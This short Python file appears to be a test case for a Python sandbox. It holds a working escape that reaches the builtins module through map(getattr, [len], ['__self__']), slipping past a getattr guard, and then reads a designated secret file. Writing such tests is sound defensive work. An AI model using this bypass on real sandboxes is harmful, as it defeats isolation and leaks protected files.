# effect: leak
# note: a C function calls getattr, no guard in between
def attempt(probe):
    builtins = list(map(getattr, [len], ["__self__"]))[0]
    return builtins.open(probe["secret_file"]).read()
